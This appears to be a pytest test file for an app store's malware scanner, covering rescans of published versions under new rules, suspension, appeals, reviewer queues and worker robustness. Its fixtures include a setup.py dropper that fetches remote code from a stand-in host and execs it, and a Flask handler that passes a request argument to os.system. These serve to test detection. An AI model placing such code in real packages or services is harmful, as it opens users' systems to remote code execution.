"""New rules: read again what is offered, see what would change, then let it take effect."""

from datetime import timedelta
from threading import Thread

import pytest
from django.core import mail
from django.db import connection
from django.utils import timezone

from appstore.actions import appeals, moderation
from appstore.jobs import review_clock
from appstore.models import QueueEntry
from marketplace.core import jobs
from marketplace.core.lifecycle import InvalidTransition
from marketplace.core.models import Job, SecurityAudit
from scanner import queries, tasks
from scanner.actions import rescans, scans
from scanner.jobs import rules
from scanner.models import CodeScanResult, Rescan, RescanItem, RuleSet
from scanner.policies import ScanOperatorRequired
from scanner.results import rulesets
from tests.factories import ScanFactory, UserFactory, VersionFactory

HELLO = "from flask import Flask\n\napp = Flask(__name__)\n"
SHELL = 'import os\nfrom flask import request\n\ndef run():\n    os.system(request.args["c"])\n'
DROPPER = """import base64, urllib.request
from setuptools import setup

exec(base64.b64decode(urllib.request.urlopen("https://files.invalid/step").read()))
setup(name="nice-app")
"""


def now():
    return timezone.now()


def rules_change():
    """What is on disk is other than what a worker saw before."""
    RuleSet.objects.update(digest="0" * 64, first_seen_at=now() - timedelta(days=1))


def offered(stored, files, *, installs=0, **facts):
    """In the store, scanned by the rules of that time."""
    version = stored(files, published=True, app__install_count=installs, **facts)
    ScanFactory(version=version, risk=version.risk)
    return version


def campaign():
    rules_change()
    tasks.watch_rules()
    return Rescan.objects.get()


def read(rescan, run_jobs):
    run_jobs("scanner.read_lane")
    rescan.refresh_from_db()
    assert rescan.status == "read"
    return rescan


def enforce(rescan, staff, run_jobs):
    rescans.enforce(rescan=rescan, reason="So.", by=staff, at=now())
    run_jobs("scanner.apply_rescan")
    rescan.refresh_from_db()
    return rescan


def actions():
    return list(SecurityAudit.objects.order_by("pk").values_list("action", flat=True))


def test_new_rules_read_the_most_installed_first_and_change_nothing(stored, run_jobs):
    few = offered(stored, {"app.py": SHELL}, installs=1)
    many = offered(stored, {"setup.py": DROPPER}, installs=50)
    stored({"app.py": SHELL})  # a draft is nobody's danger

    rescan = campaign()
    assert [item.version for item in rescan.items.in_order()] == [many, few]
    assert rescan.ruleset.state == "shadow"
    read(rescan, run_jobs)

    found = dict(rescan.items.values_list("version", "risk_after"))
    assert found == {many.pk: "critical", few.pk: "high"}
    for version in (few, many):
        version.refresh_from_db()
        assert (version.status, version.risk) == ("published", "low")
        assert version.scans.count() == 1
    assert "version.suspend" not in actions()


def test_the_report_says_what_would_change(stored, run_jobs):
    raised = offered(stored, {"app.py": SHELL}, installs=3)
    lowered = offered(stored, {"app.py": HELLO}, installs=2, risk="medium")
    offered(stored, {"app.py": HELLO}, installs=1)

    report = queries.rescan_report(read(campaign(), run_jobs))

    assert (report.total, report.read, report.failed) == (3, 3, 0)
    assert (report.raised, report.lowered) == (1, 1)
    assert [item.version for item in report.changed] == [raised, lowered]
    assert report.changed[0].new_count > 0
    assert report.moves[("low", "high")] == 1


def test_enforced_it_suspends_what_is_critical_and_shows_a_reviewer_what_is_high(
    staff, stored, run_jobs, django_capture_on_commit_callbacks
):
    bad = offered(stored, {"setup.py": DROPPER}, installs=500)  # the most popular there is
    weak = offered(stored, {"app.py": SHELL})
    good = offered(stored, {"app.py": HELLO})
    rescan = read(campaign(), run_jobs)
    mail.outbox.clear()

    with django_capture_on_commit_callbacks(execute=True):
        enforce(rescan, staff, run_jobs)

    for version in (bad, weak, good):
        version.refresh_from_db()
    assert rescan.status == "done"
    assert (bad.status, bad.risk) == ("suspended", "critical")
    assert (weak.status, weak.risk) == ("published", "high")
    assert (good.status, good.risk) == ("published", "low")
    decision = bad.decisions.get()
    assert (decision.kind, decision.decided_by) == ("suspend", None)
    assert decision.reason.startswith("A scan with newer rules found a critical risk.")
    assert [message.subject for message in mail.outbox] == [f"{bad} is suspended"]
    entry = QueueEntry.objects.get()
    assert (entry.version, "rescan_raised" in entry.codes) == (weak, True)
    scan = bad.scans.newest_first().first()
    assert (scan.trigger, scan.risk, scan.ruleset) == ("rescan", "critical", rescan.ruleset)
    assert scan.findings.exists()
    assert scan.statements.count() == 1
    assert actions()[-9:].count("app.rescan") == 3
    assert RuleSet.objects.get(digest="0" * 64).state == "retired"
    assert RuleSet.objects.enforced().get() == rescan.ruleset


def test_what_the_scanner_suspended_can_be_appealed(staff, stored, run_jobs):
    bad = offered(stored, {"setup.py": DROPPER})
    enforce(read(campaign(), run_jobs), staff, run_jobs)
    bad.refresh_from_db()
    appeal = appeals.appeal(
        app=bad.app, version=bad, text="No.", evidence="", by=bad.app.developer.user, at=now()
    )

    appeals.grant(appeal=appeal, answer="Right.", by=staff, at=now())

    bad.refresh_from_db()
    assert bad.status == "published"


def test_what_was_approved_and_is_high_now_waits_for_a_reviewer_again(staff, stored, run_jobs):
    version = stored(
        {"app.py": SHELL},
        status="approved",
        risk="low",
        app__status="approved",
        decided_by=staff,
        decided_at=now(),
    )
    ScanFactory(version=version)

    enforce(read(campaign(), run_jobs), staff, run_jobs)

    version.refresh_from_db()
    version.app.refresh_from_db()
    assert (version.status, version.app.status) == ("reviewing", "reviewing")
    assert version.decided_by is None
    assert "rescan_raised" in QueueEntry.objects.get().codes


def test_a_reviewer_leaves_it_in_the_store(staff, stored, run_jobs):
    version = offered(stored, {"app.py": SHELL})
    enforce(read(campaign(), run_jobs), staff, run_jobs)

    moderation.keep_in_store(version=version, reason="Seen.", by=staff, at=now())

    version.refresh_from_db()
    assert version.status == "published"
    assert QueueEntry.objects.get().outcome == "approved"
    with pytest.raises(moderation.NotInReview):
        moderation.keep_in_store(version=version, reason="", by=staff, at=now())
    assert actions().count("version.keep") == 1


def test_a_raised_version_stays_in_the_queue_while_the_clock_goes_on(staff, stored, run_jobs):
    offered(stored, {"app.py": SHELL})
    enforce(read(campaign(), run_jobs), staff, run_jobs)
    review_clock.keep(at=now())
    assert QueueEntry.objects.get().is_open


def test_each_step_run_twice_is_one_step(staff, stored, run_jobs):
    offered(stored, {"setup.py": DROPPER})
    rescan = read(campaign(), run_jobs)
    tasks.watch_rules()
    run_jobs("scanner.read_lane")
    rescans.enforce(rescan=rescan, reason="So.", by=staff, at=now())
    for _ in "ab":
        tasks.watch_rules()
        run_jobs("scanner.apply_rescan")

    assert Rescan.objects.count() == 1
    assert CodeScanResult.objects.filter(trigger="rescan").count() == 1
    assert actions().count("version.suspend") == 1
    assert actions().count("rescan.begin") == 1


def test_a_worker_that_died_loses_nothing(stored, run_jobs):
    offered(stored, {"app.py": HELLO}, installs=2)
    offered(stored, {"app.py": HELLO}, installs=1)
    rescan = campaign()
    rescan.items.filter(position=0).update(state="reading", lane=0, attempts=1)
    Job.objects.filter(kind="scanner.read_lane").update(
        state="running", lease_until=now() - timedelta(seconds=1), attempt=1, fence=1
    )

    for job in Job.objects.filter(kind="scanner.read_lane"):
        jobs.run(job.pk)

    assert set(rescan.items.values_list("state", "attempts")) == {("read", 1), ("read", 2)}


def test_what_kills_its_worker_each_time_is_given_up_and_waits_for_a_person(
    staff, stored, run_jobs
):
    version = offered(stored, {"app.py": HELLO})
    rescan = campaign()
    rescan.items.update(state="reading", lane=0, attempts=3)

    read(rescan, run_jobs)
    assert rescan.items.get().state == "failed"
    enforce(rescan, staff, run_jobs)

    version.refresh_from_db()
    assert (version.status, version.risk) == ("published", "high")
    assert not version.scans.newest_first().first().is_complete
    assert "rescan_raised" in QueueEntry.objects.get().codes


def test_what_went_its_own_way_is_left_alone(staff, stored, run_jobs):
    version = offered(stored, {"setup.py": DROPPER})
    rescan = read(campaign(), run_jobs)
    type(version).objects.filter(pk=version.pk).update(status="suspended")

    enforce(rescan, staff, run_jobs)

    assert rescan.items.get().state == "left"
    assert version.scans.count() == 1


def test_it_can_be_paused_and_goes_on(staff, stored, run_jobs):
    offered(stored, {"app.py": HELLO})
    rescan = campaign()

    rescans.pause(rescan=rescan, reason="So.", by=staff)
    run_jobs("scanner.read_lane")
    assert rescan.items.get().state == "waiting"
    rescans.resume(rescan=rescan, reason="So.", by=staff)
    read(rescan, run_jobs)

    assert {"rescan.pause", "rescan.resume", "rescan.read"} < set(actions())


def test_given_up_it_changes_nothing_and_is_not_begun_again(staff, stored, run_jobs):
    version = offered(stored, {"setup.py": DROPPER})
    rescan = read(campaign(), run_jobs)

    rescans.abort(rescan=rescan, reason="So.", by=staff, at=now())
    with pytest.raises(InvalidTransition):
        rescans.enforce(rescan=rescan, reason="So.", by=staff, at=now())
    tasks.watch_rules()

    version.refresh_from_db()
    assert version.status == "published"
    assert Rescan.objects.get().status == "aborted"


def test_nothing_takes_effect_before_everything_was_read(staff, stored):
    offered(stored, {"setup.py": DROPPER})
    rescan = campaign()
    with pytest.raises(InvalidTransition):
        rescans.enforce(rescan=rescan, reason="So.", by=staff, at=now())
    assert RuleSet.objects.enforced().get().digest == "0" * 64


def test_only_who_operates_the_scanner_decides(stored):
    rescan = Rescan.objects.create(ruleset=rulesets.current(at=now()))
    reviewer = UserFactory(is_staff=True)
    for refused in (
        lambda: rescans.start(reason="So.", by=reviewer, at=now()),
        lambda: rescans.pause(rescan=rescan, reason="So.", by=reviewer),
        lambda: rescans.abort(rescan=rescan, reason="So.", by=reviewer, at=now()),
        lambda: rescans.enforce(rescan=rescan, reason="So.", by=reviewer, at=now()),
    ):
        with pytest.raises(ScanOperatorRequired):
            refused()
    assert actions() == []


def test_an_operator_starts_one_at_a_time_by_hand(staff, stored, run_jobs):
    offered(stored, {"app.py": HELLO})
    rescan = rescans.start(reason="So.", by=staff, at=now())
    with pytest.raises(rescans.RescanUnderway):
        rescans.start(reason="So.", by=staff, at=now())
    assert Rescan.objects.get() == rescan
    enforce(read(rescan, run_jobs), staff, run_jobs)
    assert RuleSet.objects.get().state == "enforced"


def test_rules_that_were_replaced_meanwhile_do_not_take_effect(staff, stored, run_jobs):
    offered(stored, {"app.py": HELLO})
    rescan = read(campaign(), run_jobs)
    RuleSet.objects.filter(pk=rescan.ruleset_id).update(digest="1" * 64)

    with pytest.raises(rescans.RulesReplaced):
        rescans.enforce(rescan=rescan, reason="So.", by=staff, at=now())
    rules.watch(at=now())

    rescan.refresh_from_db()
    assert rescan.status == "aborted"
    assert Rescan.objects.exclude(pk=rescan.pk).get().status == "running"


def test_new_rules_are_in_force_at_once_where_nothing_is_offered():
    rulesets.current(at=now())
    rules_change()
    rules.watch(at=now())
    assert RuleSet.objects.enforced().get().digest == rulesets.current(at=now()).digest
    assert RuleSet.objects.filter(state="retired").count() == 1


def test_what_waits_for_a_reviewer_is_scanned_by_the_new_rules(staff, stored, run_jobs):
    offered(stored, {"app.py": HELLO})
    waiting = stored({"app.py": HELLO}, reviewing=True)
    rescan = read(campaign(), run_jobs)

    rescans.enforce(rescan=rescan, reason="So.", by=staff, at=now())
    assert scans.is_underway(waiting)
    run_jobs("scanner.scan")

    moderation.decide_review(version=waiting, approved=True, reason="", by=staff, at=now())
    waiting.refresh_from_db()
    assert waiting.status == "approved"


@pytest.mark.django_db(transaction=True)
def test_twenty_threads_on_four_lanes_read_each_version_once(settings, stored):
    settings.SCAN_RESCAN_LANES = 4
    for number in range(8):
        version = stored(f"no archive, {number}".encode(), published=True)
        ScanFactory(version=version)
    rescan = campaign()
    lanes = list(Job.objects.filter(kind="scanner.read_lane").values_list("pk", flat=True))

    def work(job_id):
        jobs.run(job_id)
        connection.close()

    threads = [Thread(target=work, args=(lanes[number % 4],)) for number in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert set(RescanItem.objects.values_list("state", "attempts")) == {("read", 1)}
    rescan.refresh_from_db()
    assert rescan.status == "read"
    assert actions().count("rescan.read") == 1
    assert VersionFactory._meta.model.objects.filter(risk="low").count() == 8
